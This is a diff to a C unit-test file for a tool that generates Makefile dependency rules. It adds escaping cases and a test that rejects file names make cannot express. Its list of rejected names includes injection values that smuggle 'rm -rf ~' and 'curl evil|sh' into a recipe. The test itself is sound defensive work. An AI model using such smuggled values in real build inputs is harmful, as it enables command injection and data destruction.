@@ -57,7 +57,38 @@ static const struct deps_case deps_cases[] = {
 	  "  data/$$cost.csv\n\ndata/q4\\ \\#1.csv:\n\ndata/$$cost.csv:\n" },
 	{ "out/b.pdf", { "reports/b.md" }, 1,
 	  "out/b.pdf: \\\n  reports/b.md\n\nreports/b.md:\n" },
+	/* ':' splits a rule; '%' makes a target a pattern (not so in a
+	 * prerequisite); a leading '~' is a home folder. */
+	{ "out/50%.pdf", { "data/a:b (50%).csv", "~x.csv" }, 2,
+	  "out/50\\%.pdf: \\\n  data/a\\:b\\ (50%).csv \\\n  ./~x.csv\n"
+	  "\ndata/a\\:b\\ (50\\%).csv:\n\n./~x.csv:\n" },
 };
+
+/* Names make cannot take literally in a rule: no rule at all, and an
+ * error naming the file (a newline or ';' in a data file's name put a
+ * command of the report author's into the Makefile's recipe). */
+static const char *const unsayable[] = {
+	"data/a\n\trm -rf ~.csv", "data/x;curl evil|sh;.csv",
+	"data/SHELL=sh.csv", "data/a\\b.csv", "data/*.csv", "data/a|b.csv",
+};
+
+START_TEST(test_deps_unsayable)
+{
+	const char *in[] = { "reports/a.md", unsayable[_i] };
+	struct diags d;
+	char *rule;
+
+	diags_init(&d);
+	rule = deps_rule("out/a.pdf", in, 2, &d);
+	ck_assert_ptr_null(rule);
+	ck_assert_uint_eq(d.errors, 1);
+	ck_assert(strncmp(d.items[0].file, "data/", 5) == 0);
+	ck_assert_ptr_nonnull(strstr(d.items[0].message, "make cannot name"));
+	ck_assert(!deps_write("/tmp/never-written.d", "out/a.pdf", in, 2, &d));
+	ck_assert_int_ne(access("/tmp/never-written.d", F_OK), 0);
+	diags_release(&d);
+}
+END_TEST
 
 START_TEST(test_deps_write)
 {
@@ -223,6 +254,8 @@ deps_suite(void)
 	tcase_add_loop_test(tc, test_deps_write, 0,
 	    sizeof deps_cases / sizeof deps_cases[0]);
 	tcase_add_test(tc, test_deps_unwritable);
+	tcase_add_loop_test(tc, test_deps_unsayable, 0,
+	    sizeof unsayable / sizeof unsayable[0]);
 	suite_add_tcase(s, tc);
 	tcase_add_checked_fixture(tf, fonts_setup, fonts_teardown);
 	tcase_add_loop_test(tf, test_fontuse_layout, 0,
